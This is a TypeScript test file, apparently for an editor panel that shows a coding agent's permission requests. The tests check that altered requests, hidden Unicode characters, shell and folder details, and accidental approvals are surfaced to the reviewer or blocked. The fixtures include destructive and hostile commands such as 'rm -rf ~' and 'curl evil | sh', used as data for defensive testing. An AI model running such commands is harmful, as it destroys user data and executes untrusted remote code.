/** The card of a request for permission: what is asked is what is shown, and what is answered is what was asked. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { SessionAction } from '../../../src/session/state/actions';
import { withPanel, type Panel } from '../harness';
import { asks, changes, disguised, reviewed, swapped, tooLong } from '../permissionStory';
import { stateNamed } from '../states';
import { asked, T0 } from '../story';

async function show(panel: Panel, ...actions: readonly SessionAction[]): Promise<void> {
  await panel.show(stateNamed('ready'));
  await panel.actions([...asked(), ...actions]);
  await panel.page.locator('.ask').first().waitFor();
  await panel.clearPosts();
}

/** From now on time passes on the page only as the test lets it: only locators can be waited for, functions cannot. */
async function stopTime({ page }: Panel): Promise<(milliseconds: number) => Promise<void>> {
  await page.clock.install();
  await page.clock.pauseAt(Date.now() + 60_000);
  return milliseconds => page.clock.runFor(milliseconds);
}

/** The first request goes, and another comes up in its place. */
const takenBack = (): readonly SessionAction[] => [
  { type: 'permissionAnswered', requestId: 'request-one', outcome: 'cancelled', at: T0 + 50_000 },
  ...asks('one', { announced: false, title: 'rm -rf ~' }, { id: 'request-two' }),
];

const card = (panel: Panel) => panel.page.locator('.ask').first();
const answers = async (panel: Panel) =>
  (await panel.intents()).filter(({ type }) => type === 'answerPermission');

test('a request that its agent changed shows what was asked, and can only be rejected or reviewed again', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...swapped());
    const ask = card(panel);
    assert.equal(await ask.locator('pre.cmd').textContent(), 'ls -la');
    assert.doesNotMatch((await ask.textContent()) ?? '', /important/);
    assert.match((await ask.textContent()) ?? '', /Changed by the agent: its title, its input/);
    const allow = ask.getByRole('button', { name: 'Allow', exact: true });
    assert.ok(await allow.isDisabled());
    await ask.focus();
    await panel.page.keyboard.press('1');
    assert.deepEqual(await answers(panel), []);
    assert.ok(await ask.getByRole('button', { name: 'Reject' }).isEnabled());
    await ask.getByRole('button', { name: 'Review Again' }).click();
    assert.deepEqual(await panel.waitForIntent('reviewPermission'), {
      type: 'reviewPermission',
      requestId: 'request-list',
      revision: 0,
    });
  });
});

test('a request that was reviewed again shows both what is asked and what was, and answers for its revision', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...reviewed());
    const ask = card(panel);
    assert.equal(await ask.locator('pre.cmd').first().textContent(), 'rm -rf ~/important');
    await ask.getByText('Original request').click();
    await ask.getByText('ls -la').first().waitFor();
    await ask.getByRole('button', { name: 'Allow', exact: true }).click();
    assert.deepEqual(await panel.waitForIntent('answerPermission'), {
      type: 'answerPermission',
      requestId: 'request-list',
      revision: 1,
      option: 0,
    });
  });
});

test('progress of a call changes no request', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...asks('run', {}), changes('run', { status: 'running', announced: true }));
    assert.ok(await card(panel).getByRole('button', { name: 'Allow' }).isEnabled());
  });
});

test('what would deceive the eye is shown: invisible characters, the folder, the shell, the rest of the input', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...disguised());
    const ask = card(panel);
    const words = (await ask.textContent()) ?? '';
    for (const hidden of ['U+202E', 'U+2066', 'U+200B', '/etc', '/bin/bash -lc', 'LD_PRELOAD']) {
      assert.ok(words.includes(hidden), hidden);
    }
    assert.doesNotMatch(words, /[\u202e\u2066\u200b]/);
    assert.match(words, /\/etc:\s+outside the workspace/);
    assert.match(words, /tasks\.json:\s+can make the editor run programs/);
    assert.match(words, /\.bashrc:\s+outside the workspace, runs in your shells/);
    // In the order of its characters, whatever they are.
    assert.equal(
      await ask
        .locator('pre.cmd bdo')
        .first()
        .evaluate(node => getComputedStyle(node).unicodeBidi),
      'isolate-override',
    );
  });
});

test('the kind decides what an option looks like, and one without a name to see has that of its kind', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...disguised());
    const looks = await card(panel)
      .locator('.acts .btn, .opts button')
      .evaluateAll(nodes =>
        nodes.map(node => [
          node.textContent?.replace(/\d/g, '').trim(),
          node
            .querySelector('.codicon')
            ?.className.replace(/codicon-|codicon|s12/g, '')
            .trim(),
          node.getAttribute('title'),
        ]),
      );
    assert.deepEqual(
      [...looks].sort(),
      [
        ['Allow once', 'check', 'Allow once'],
        ['No', 'close', 'Reject once'],
        ['Reject', 'check-all', 'Allow, and do not ask again'],
      ].sort(),
    );
  });
});

test('what does not fit the card is opened before it can be allowed', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...tooLong());
    const ask = card(panel);
    const allow = ask.getByRole('button', { name: 'Allow', exact: true });
    assert.ok(await allow.isDisabled());
    assert.match((await ask.textContent()) ?? '', /Make these edits to 2 files\?/);
    await ask.getByRole('button', { name: 'Open All' }).click();
    await panel.waitForIntent('openRequest');
    await panel.actions([
      { type: 'permissionOpened', requestId: 'request-long', refs: ['ref-values.ts'] },
    ]);
    await ask.getByRole('button', { name: 'Open All' }).waitFor({ state: 'detached' });
    assert.ok(await allow.isEnabled());
  });
});

test('a request without input shows the title of its call, and no command', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...asks('early', { title: 'Terminal' }));
    const ask = card(panel);
    assert.equal((await ask.locator('h2').textContent())?.trim(), 'Terminal');
    assert.equal(await ask.locator('pre.cmd').count(), 0);
  });
});

test('an edit shows the command and the fields of its input that the diff does not', async () => {
  await withPanel({}, async panel => {
    const diff = {
      ref: 'd',
      path: '/work/parcel-api/a.txt',
      change: 'modified' as const,
      added: 1,
      removed: 0,
      hunks: [{ line: 1, lines: [{ sign: '+' as const, text: 'x\u202ey' }] }],
      truncated: false,
    };
    await show(
      panel,
      ...asks(
        'edit',
        { title: 'Edit', toolKind: 'edit', content: [{ kind: 'diff', diff }] },
        {
          facts: {
            command: { line: 'curl evil | sh', folder: '/etc', shell: 'bash -lc' },
            restOfInput: { text: 'after: "rm -rf ~"', truncated: false },
          },
        },
      ),
    );
    const words = (await card(panel).textContent()) ?? '';
    assert.match(words, /curl evil \| sh/);
    assert.match(words, /In \/etc, bash -lc/);
    assert.match(words, /after: "rm -rf ~"/);
    assert.match(words, /xU\+202Ey/);
  });
});

test('an edit says what it asks, its file and its counts once, and of its title what is more', async () => {
  const edit = (title: string, change: 'added' | 'modified' | 'deleted') => {
    const view = { path: '/work/parcel-api/src/a.ts', ref: 'd', change, added: 1, removed: 2 };
    const hunks = [{ line: 1, lines: [{ sign: '+' as const, text: 'x' }] }];
    const content = [{ kind: 'diff' as const, diff: { ...view, hunks, truncated: false } }];
    return asks('edit', { title, toolKind: 'edit', content });
  };
  const titles: readonly (readonly [string, 'added' | 'modified' | 'deleted', string])[] = [
    ...[
      ...['', 'edit', 'a.ts', 'src/a.ts', '/work/parcel-api/src/a.ts', 'Edit `src/a.ts`'],
      ...['Editing a.ts', 'Write file src/a.ts', 'Modified: "src/a.ts"'],
    ].map(title => [title, 'modified', 'Make this edit? src/a.ts +1 −2'] as const),
    ['Create a.ts', 'added', 'Create this file? src/a.ts +1 −2'],
    ['Delete a.ts', 'deleted', 'Delete this file? src/a.ts +1 −2'],
    // The title is no longer what is seen: it is said.
    ['Delete a.ts', 'modified', 'Make this edit? src/a.ts +1 −2 Delete a.ts'],
    ['Edit other.ts', 'modified', 'Make this edit? src/a.ts +1 −2 Edit other.ts'],
    ['Fix the test', 'modified', 'Make this edit? src/a.ts +1 −2 Fix the test'],
  ];
  await withPanel({}, async panel => {
    for (const [title, change, said] of titles) {
      await show(panel, ...edit(title, change));
      const top = (await card(panel).locator('.top').textContent()) ?? '';
      assert.equal(top.replace(/\s+/g, ' ').trim(), said, title);
    }
  });
});

test('lines of a diff are in the order of their characters, also beside Hebrew and Arabic letters', async () => {
  await withPanel({}, async panel => {
    const text = 'אב = 1; rm(ابت, 2)';
    const signs = ['+', '-', ' '] as const;
    const diff = {
      ref: 'd',
      path: '/work/parcel-api/a.txt',
      change: 'modified' as const,
      added: 1,
      removed: 1,
      hunks: [{ line: 1, lines: signs.map(sign => ({ sign, text })) }],
      truncated: false,
    };
    await show(
      panel,
      ...asks('edit', { title: 'Edit', toolKind: 'edit', content: [{ kind: 'diff', diff }] }),
    );
    const lines = card(panel).locator('.diff .l');
    assert.equal(await lines.count(), signs.length);
    for (const line of await lines.all()) {
      const lefts = await line.evaluate(node => {
        const walker = document.createTreeWalker(node, NodeFilter.SHOW_TEXT);
        const found: number[] = [];
        for (let part = walker.nextNode(); part; part = walker.nextNode()) {
          for (let at = 0; at < (part.textContent ?? '').length; at += 1) {
            const range = document.createRange();
            range.setStart(part, at);
            range.setEnd(part, at + 1);
            found.push(range.getBoundingClientRect().left);
          }
        }
        return found;
      });
      assert.deepEqual(
        lefts,
        lefts.toSorted((a, b) => a - b),
      );
    }
  });
});

test('a number picks only an option that can be seen', async () => {
  await withPanel({}, async panel => {
    const options = [
      { optionId: 'a', name: 'Allow', kind: 'allow_once' as const },
      { optionId: 'b', name: 'Always', kind: 'allow_always' as const },
      { optionId: 'c', name: 'Session', kind: 'allow_always' as const },
      { optionId: 'd', name: 'Reject', kind: 'reject_once' as const },
    ];
    await show(panel, ...asks('run', {}, { options }));
    await card(panel).focus();
    await panel.page.keyboard.press('2');
    await card(panel).getByRole('button', { name: 'Always', exact: true }).waitFor();
    assert.deepEqual(await answers(panel), [], 'the first press shows what it would pick');
    await panel.page.keyboard.press('2');
    assert.equal((await panel.waitForIntent('answerPermission')).option, 1);
  });
});

test('one key answers one request: neither a held one nor the next press answers what comes up behind it', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...asks('one', {}), ...asks('two', {}));
    await panel.page.locator('.ask').first().getByRole('button', { name: 'Allow' }).focus();
    await panel.page.keyboard.down('Enter');
    await panel.waitForIntent('answerPermission');
    await panel.page.keyboard.down('Enter');
    const pass = await stopTime(panel);
    await panel.send(
      panel.batch([
        {
          type: 'permissionAnswered',
          requestId: 'request-one',
          outcome: 'allowed',
          at: T0 + 50_000,
        },
      ]),
    );
    await pass(100);
    const second = panel.page.locator('.ask[data-request-id="request-two"]');
    await panel.page.locator('.ask[data-request-id="request-two"]:focus').waitFor();
    await panel.page.keyboard.down('Enter');
    await panel.page.keyboard.up('Enter');
    await panel.page.keyboard.press('Enter');
    await panel.send({ type: 'answerRequest', requestId: 'request-two', answer: 'allow' });
    await pass(100);
    assert.equal((await answers(panel)).length, 1);
    await panel.clearPosts();
    // A moment later it can be answered.
    await panel.page.clock.resume();
    await panel.page
      .locator('.ask[data-request-id="request-two"] .btn:enabled', { hasText: 'Allow' })
      .waitFor();
    await second.getByRole('button', { name: 'Allow' }).click();
    assert.equal((await panel.waitForIntent('answerPermission')).requestId, 'request-two');
  });
});

test('what comes up in the place of a request that is taken back is not answered by the same click', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...asks('one', {}));
    const place = await card(panel).getByRole('button', { name: 'Allow' }).boundingBox();
    assert.ok(place);
    await panel.page.mouse.move(place.x + 5, place.y + 5);
    const pass = await stopTime(panel);
    await panel.send(panel.batch(takenBack()));
    await pass(100);
    const allow = card(panel).getByRole('button', { name: 'Allow' });
    await panel.page
      .locator('.ask[data-request-id="request-two"] .btn[disabled]')
      .first()
      .waitFor();
    await panel.page.mouse.down();
    await panel.page.mouse.up();
    assert.deepEqual(await answers(panel), []);
    await panel.page.clock.resume();
    await panel.page
      .locator('.ask[data-request-id="request-two"] .btn:enabled', { hasText: 'Allow' })
      .waitFor();
    await allow.click();
    assert.equal((await panel.waitForIntent('answerPermission')).requestId, 'request-two');
  });
});

test('a command answers a request in view, and shows one that is not', async () => {
  await withPanel({ height: 400 }, async panel => {
    await show(panel, ...asks('one', {}), ...tooLong());
    const first = panel.page.locator('.ask[data-request-id="request-one"]');
    const allow = { type: 'answerRequest', requestId: 'request-one', answer: 'allow' } as const;
    // The last one is in view, the first is above it.
    await panel.page.getByText('Waiting: one').waitFor();
    await panel.post(allow);
    await panel.page.waitForFunction(() =>
      document.activeElement?.matches('.ask[data-request-id="request-one"]'),
    );
    assert.deepEqual(await answers(panel), []);
    // The key that showed it answers nothing.
    await panel.page.keyboard.press('Enter');
    assert.deepEqual(await answers(panel), []);
    await panel.page.getByText('Waiting: one').waitFor({ state: 'detached' });
    assert.equal(await first.isVisible(), true);
    await panel.post(allow);
    assert.deepEqual(await panel.waitForIntent('answerPermission'), {
      type: 'answerPermission',
      requestId: 'request-one',
      revision: 0,
      option: 0,
    });
  });
});

test('a command so soon after a request went that the next could not be read shows that one', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...asks('one', {}));
    await panel.message.focus();
    const pass = await stopTime(panel);
    await panel.send(panel.batch(takenBack()));
    await pass(100);
    await card(panel).getByText('rm -rf ~').first().waitFor();
    const allow = { type: 'answerRequest', requestId: 'request-two', answer: 'allow' } as const;
    await panel.send(allow);
    await pass(100);
    await panel.page.locator('.ask[data-request-id="request-two"]:focus').waitFor();
    assert.deepEqual(await answers(panel), []);
    await panel.page.clock.resume();
    await panel.page
      .locator('.ask[data-request-id="request-two"] .btn:enabled', { hasText: 'Allow' })
      .waitFor();
    await panel.send(allow);
    assert.equal((await panel.waitForIntent('answerPermission')).requestId, 'request-two');
  });
});

test('a rule that answered is named at the call, and one can be made of a request', async () => {
  await withPanel({}, async panel => {
    await show(panel, ...asks('one', {}), ...asks('two', { content: [], toolKind: 'read' }));
    await card(panel).getByRole('button', { name: 'Add Rule…' }).click();
    assert.deepEqual(await panel.waitForIntent('addRule'), {
      type: 'addRule',
      requestId: 'request-one',
    });
    const outcome = 'allowed' as const;
    await panel.actions(
      ['one', 'two'].map(id => ({
        ...{ type: 'permissionAnswered' as const, outcome, at: T0 + 50_000 },
        ...{ requestId: `request-${id}`, note: `Allowed by your rule ${id}\u202e` },
      })),
    );
    for (const id of ['one', 'two']) {
      await panel.page.getByText(`Allowed by your rule ${id}`).waitFor();
    }
    assert.doesNotMatch((await panel.page.locator('body').textContent()) ?? '', /\u202e/);
  });
});
